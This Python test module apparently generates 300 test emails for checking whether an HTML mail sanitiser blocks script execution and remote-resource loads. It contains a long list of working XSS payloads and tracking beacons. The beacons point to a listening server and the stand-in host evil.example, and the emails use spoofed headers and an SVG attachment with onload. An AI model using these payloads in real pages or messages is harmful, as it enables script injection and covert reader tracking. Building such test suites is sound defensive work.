"""300 letters made to run something, or to tell somebody that they were read: every attack, wrapped in three ways.

RUN stands for a call of the test's own mark, OUT for the address of a server that listens.
"""

from __future__ import annotations

from collections.abc import Iterator

SCRIPTS = (
    "<script>RUN</script>", "<SCRIPT SRC=OUT/x.js></SCRIPT>", "<script/x>RUN</script>",
    "<scr<script>ipt>RUN</script>", "<script\x00>RUN</script>", "<script>//<!--\nRUN</script>",
    "<script type=module>RUN</script>", "<img src=x onerror=RUN>", "<img src=x onerror\n=\nRUN>",
    "<img/src=x/onerror=RUN>", "<img src=`x`onerror=RUN>", '<img """><script>RUN</script>">',
    "<image src=x onerror=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>", "<svg onload=RUN>", "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>", "<svg><a xlink:href=javascript:RUN>x</a>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:RUN>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>", "<svg><desc><img src=x onerror=RUN></desc></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
    "<a href=javascript:RUN>x</a>", "<a href='jav&#x09;ascript:RUN'>x</a>", "<a href=' javascript:RUN'>x</a>",
    "<a href='java\nscript:RUN'>x</a>", "<a href=data:text/html,<script>RUN</script>>x</a>",
    "<a href=vbscript:RUN>x</a>", "<a href=&#106;avascript:RUN>x</a>", "<a href=JaVaScRiPt:RUN target=_top>x</a>",
    "<a href=blob:RUN>x</a>", "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>", "<iframe onload=RUN></iframe>",
    "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>",
    "<object data='data:text/html,<script>RUN</script>'></object>", "<frameset onload=RUN><frame src=javascript:RUN>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>", "<base href=javascript:RUN//>",
    "<form action=javascript:RUN><input type=submit autofocus></form>",
    "<button formaction=javascript:RUN autofocus>x</button>", "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>", "<textarea autofocus onfocus=RUN></textarea>",
    "<keygen autofocus onfocus=RUN>", "<video><source onerror=RUN></video>", "<video src=x onerror=RUN>",
    "<audio src=x onerror=RUN>", "<details open ontoggle=RUN><summary>x</summary></details>",
    "<marquee onstart=RUN>x</marquee>", "<div style='width:expression(RUN)'>x</div>",
    "<div style='behavior:url(#x)' onresize=RUN>x</div>", "<style>*{x:expression(RUN)}</style>",
    "<style>@import 'javascript:RUN';</style>", "<style></style><script>RUN</script>",
    "<style><img src='</style><img src=x onerror=RUN>'>", "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><img src=x onerror=RUN></template>", "<title><img src=x onerror=RUN></title>",
    "<textarea></textarea><img src=x onerror=RUN>", "<xmp><img src=x onerror=RUN></xmp>",
    "<!--><img src=x onerror=RUN>-->", "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<script>RUN</script>]]>", "<?xml-stylesheet href='javascript:RUN'?>",
    "<x onclick=RUN id=x tabindex=1 onfocus=RUN autofocus>x</x>",
    "<p onpointerenter=RUN onanimationstart=RUN style='animation:x 1s'>x</p>",
    "<div id=x><div name=body class=frame>x</div>", "<a href='OUT/x' ping='OUT/ping' onclick=RUN>x</a>",
    "<portal src=javascript:RUN></portal>",
)  # fmt: skip
REMOTE = (
    "<img src=OUT/a.png>", "<img srcset='OUT/b.png 2x'>", "<picture><source srcset=OUT/c.png><img></picture>",
    "<div style='background:url(OUT/d.png)'>x</div>", "<div style='background-image:\\75rl(OUT/e.png)'>x</div>",
    "<style>@import url(OUT/f.css);</style>",
    "<style>@font-face{font-family:x;src:url(OUT/g.woff)}*{font-family:x}</style>",
    "<link rel=stylesheet href=OUT/h.css>", "<link rel=prefetch href=OUT/i>",
    "<link rel=dns-prefetch href=//evil.example>", "<link rel=preload as=image href=OUT/j.png>",
    "<video poster=OUT/k.png src=OUT/l.mp4 autoplay></video>", "<audio src=OUT/m.mp3 autoplay></audio>",
    "<body background=OUT/n.png>", "<table background=OUT/o.png><tr><td>x</table>",
    "<input type=image src=OUT/p.png>", "<svg><image href=OUT/q.png /></svg>", "<svg><use href=OUT/r.svg#x /></svg>",
    "<iframe src=OUT/s.html></iframe>", "<object data=OUT/t.swf></object>",
    "<meta http-equiv=refresh content='0;url=OUT/u.html'>", "<base href=OUT/><img src=v.png>",
    "<style>li{list-style:url(OUT/w.png)}p::before{content:url(OUT/x.png)}</style><p>x</p>",
    '<div style="background:image-set(\'OUT/y.png\' 1x);cursor:url(OUT/z.cur),auto;border-image:url(OUT/1) 1">x</div>',
)  # fmt: skip
WRAPS = (
    "{attack}<p>{mark}</p>",
    "<style>td{{color:#333}} .a{{margin:0}}</style><table><tr><td class=a>{attack}</table><p>{mark}",
    "<p>{mark}</p><svg><title><math><mtext><table><mglyph><style><!--</style>{attack}</svg></math></table>",
)
CHARSETS = ("utf-8", "utf-7", "cp1251")
RUN = "top.ran&&top.ran(1)||window.ran&&ran(1)"
LETTER = """From: "{named}" <{number}@evil.example>
Subject: {named} {mark}
Message-ID: <{number}@evil.example>
Content-Type: multipart/mixed; boundary=q

--q
Content-Type: text/html; charset={charset}

{body}
--q
Content-Type: image/png; name="{named}.svg"

<svg onload="{run}"><image href="{out}/f.png"/></svg>
--q--
"""


def letters(out: str) -> Iterator[tuple[str, bytes]]:
    """300 letters, each with the word that a reader of it sees. out: the address of the server that listens."""
    number = 0
    for wrap in WRAPS:
        for attack in (*SCRIPTS, *REMOTE):
            number += 1
            mark = f"seen-{number}"
            body = wrap.format(attack=attack.replace("RUN", RUN).replace("OUT", out), mark=mark)
            named = attack.replace("RUN", "ran(1)").replace("OUT", out).replace('"', "'").replace("\n", " ")
            charset = CHARSETS[number % len(CHARSETS)]
            names = {"number": number, "mark": mark, "named": named, "charset": charset}
            yield mark, LETTER.format(**names, body=body, run=RUN, out=out).encode()
